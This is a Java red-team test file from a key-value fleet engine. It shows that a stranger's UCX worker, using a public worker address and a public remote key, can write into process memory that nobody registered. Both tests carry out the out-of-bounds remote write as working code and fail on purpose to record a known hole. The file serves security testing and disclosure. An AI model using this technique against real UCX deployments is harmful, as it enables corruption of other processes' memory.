package io.kvfleet.engine.ucx;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.kvfleet.engine.Capability;
import io.kvfleet.engine.Engine;
import io.kvfleet.engine.EngineConfig;
import io.kvfleet.engine.RegionRequest;
import io.kvfleet.engine.Registration;
import io.kvfleet.engine.ucx.internal.Ucp;
import io.kvfleet.engine.ucx.internal.UcpLayouts;
import io.kvfleet.engine.ucx.internal.UcsStatus;
import java.lang.foreign.Arena;
import java.lang.foreign.MemorySegment;
import java.lang.foreign.ValueLayout;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/**
 * Red team (att2). docs/SECURITY.md, UCX: "TCP RMA is served by the peer's worker at any address it is sent", and
 * the key confirmation it adds protects only the <i>asking</i> side (an agent checks a remote key with the peer before
 * it writes). Nothing protects the <i>target</i>: a stranger runs a UCX worker of its own (no kvfleet code, so no
 * question asked), connects to an agent's worker address (public, in {@code peer.joined}), unpacks one of the agent's
 * real rkeys (public, in {@code region.registered}) and puts to any address in the agent's process. No record, key,
 * token or grant is needed; on loopback (the default cluster host) any local user reaches the TCP port, on another
 * cluster host anyone on the fleet's network. Here the target engine registered one buffer; the stranger writes a
 * buffer of the target's process that nobody registered.
 */
@SuppressWarnings("restricted") // FFM by design: the stranger's own UCX calls, and the victim's bytes read back
@Tag("open-hole") // open: UCX trusts every worker that reaches it (docs/SECURITY.md, "What stays open"); fails on purpose
class InboundRmaAttackTest {
  private static final long LENGTH = 8192;
  private static final long PATIENCE_NANOS = 10_000_000_000L;

  @Test
  void aStrangersUcxWorkerCannotWriteTheAgentsMemoryThatNoOneRegistered() throws Throwable {
    try (Engine target = Engine.open(EngineConfig.defaults().withBackends("ucx").withName("target"));
        Arena arena = Arena.ofShared()) {
      Capability ucx = target.capability("ucx").orElseThrow();
      assumeTrue(ucx.available(), "UCX is not available here: " + ucx.detail());
      Registration registered = target.register(RegionRequest.of(target.allocate("kv", LENGTH)))
          .registration("ucx").orElseThrow();
      MemorySegment victim = arena.allocate(LENGTH, 4096); // the target's process, never registered

      try (UcpContext context = UcpContext.create("stranger", "tcp", false);
          UcpWorker stranger = UcpWorker.create(context, "stranger");
          UcxMemory local = ((UcxMemory.Ok) UcxMemory.allocate(context, LENGTH)).memory()) {
        MemorySegment.ofAddress(local.address()).reinterpret(LENGTH).fill((byte) 9);
        UcpEndpoint endpoint = UcpEndpoint.connect(stranger, target.address("ucx").bytes(), false);
        long rkey = endpoint.unpack(registered.remoteKey().packed(), "the target's public rkey");
        MemorySegment plain = arena.allocate(UcpLayouts.REQUEST_PARAM); // no attributes

        long put = (long) Ucp.PUT_NBX.invokeExact(endpoint.handle(), local.address(), LENGTH, victim.address(), rkey,
            local.requestParam());
        await(stranger, put);
        long flush = (long) Ucp.EP_FLUSH_NBX.invokeExact(endpoint.handle(), plain.address());
        await(stranger, flush);
      }

      assertThat(victim.toArray(ValueLayout.JAVA_BYTE)).as("memory of the target's process no one registered, after"
          + " a stranger's put through one of its public rkeys").containsOnly(0);
    }
  }

  @Test
  void aStrangersUcxWorkerCannotWriteAnotherProcesssMemoryThatNoOneRegistered() throws Throwable {
    try (Engine probe = Engine.open(EngineConfig.defaults().withBackends("ucx").withName("probe"))) {
      Capability ucx = probe.capability("ucx").orElseThrow();
      assumeTrue(ucx.available(), "UCX is not available here: " + ucx.detail());
    }
    String javaBin = ProcessHandle.current().info().command().orElse("java");
    Process victim = new ProcessBuilder(javaBin, "--enable-native-access=ALL-UNNAMED", "-cp",
        System.getProperty("java.class.path"), InboundRmaVictim.class.getName(), Long.toString(LENGTH))
        .redirectError(ProcessBuilder.Redirect.INHERIT).start();
    try (var out = new java.io.BufferedReader(new java.io.InputStreamReader(victim.getInputStream()));
        var in = new java.io.PrintWriter(victim.getOutputStream(), true);
        Arena arena = Arena.ofConfined()) {
      String[] said = out.readLine().split(" "); // "victim <worker address> <rkey> <unregistered address>"
      var hex = java.util.HexFormat.of();
      try (UcpContext context = UcpContext.create("stranger", "tcp", false);
          UcpWorker stranger = UcpWorker.create(context, "stranger");
          UcxMemory local = ((UcxMemory.Ok) UcxMemory.allocate(context, LENGTH)).memory()) {
        MemorySegment.ofAddress(local.address()).reinterpret(LENGTH).fill((byte) 9);
        UcpEndpoint endpoint = UcpEndpoint.connect(stranger, hex.parseHex(said[1]), false);
        long rkey = endpoint.unpack(hex.parseHex(said[2]), "the victim's public rkey");
        MemorySegment plain = arena.allocate(UcpLayouts.REQUEST_PARAM);
        long put = (long) Ucp.PUT_NBX.invokeExact(endpoint.handle(), local.address(), LENGTH,
            Long.parseLong(said[3]), rkey, local.requestParam());
        await(stranger, put);
        long flush = (long) Ucp.EP_FLUSH_NBX.invokeExact(endpoint.handle(), plain.address());
        await(stranger, flush);
        in.println("count");
        assertThat(out.readLine()).as("bytes of another process's memory no one registered that a stranger's"
            + " put through one of its public rkeys wrote").isEqualTo("count 0");
      }
    } finally {
      victim.getOutputStream().close();
      if (!victim.waitFor(20, java.util.concurrent.TimeUnit.SECONDS)) {
        victim.destroyForcibly();
      }
    }
  }

  /** Progresses {@code worker} until {@code status} (a status or a request) is done, or the patience ran out. */
  private static void await(UcpWorker worker, long status) throws Throwable {
    if (!UcsStatus.isRequest(status)) {
      return;
    }
    long deadline = System.nanoTime() + PATIENCE_NANOS;
    while ((int) Ucp.REQUEST_CHECK_STATUS.invokeExact(status) == UcsStatus.INPROGRESS
        && System.nanoTime() < deadline) {
      worker.progress();
    }
  }
}
